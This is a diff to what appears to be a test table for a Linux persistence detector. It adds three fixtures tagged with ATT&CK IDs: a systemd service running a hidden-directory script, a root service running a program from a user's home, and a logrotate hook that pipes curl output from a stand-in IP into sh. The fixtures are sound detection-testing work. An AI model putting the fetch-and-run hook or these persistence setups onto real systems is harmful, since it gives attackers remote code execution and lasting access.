@@ -262,4 +262,30 @@ BEHAVIOURS = (
         files={"/etc/initramfs-tools/hooks/.keys": "#!/bin/sh\nexit 0\n"},
         modes={"/etc/initramfs-tools/hooks/.keys": 0o755},
     ),
+    Behaviour(
+        name="systemd_service_runs_hidden_script",
+        techniques=("T1543.002", "T1564.001"),
+        does="A service lets Python run a script in a hidden directory.",
+        marks=("/opt/.stat/a.py",),
+        raises=("systemd_unit_hidden_program",),
+        files={"/etc/systemd/system/stat.service": unit("Statistics", "/usr/bin/python3 /opt/.stat/a.py")},
+    ),
+    Behaviour(
+        name="systemd_service_runs_program_of_user_as_root",
+        techniques=("T1543.002", "T1574"),
+        does="A service that runs as root starts a program in a user's home.",
+        marks=("/home/viv/agent",),
+        raises=("systemd_unit_root_runs_program_in_home",),
+        files={"/etc/systemd/system/viv.service": unit("Agent", "/home/viv/agent")},
+    ),
+    Behaviour(
+        name="log_rotation_fetches_code",
+        techniques=("T1546", "T1105"),
+        does="The rotation of a log fetches code and runs it.",
+        marks=("203.0.113.26/l",),
+        raises=("autostart_command_fetches_or_decodes_code",),
+        files={
+            "/etc/logrotate.d/zz": "/var/log/zz.log {\n  postrotate\n    curl -s http://203.0.113.26/l | sh\n  endscript\n}\n"
+        },
+    ),
 )
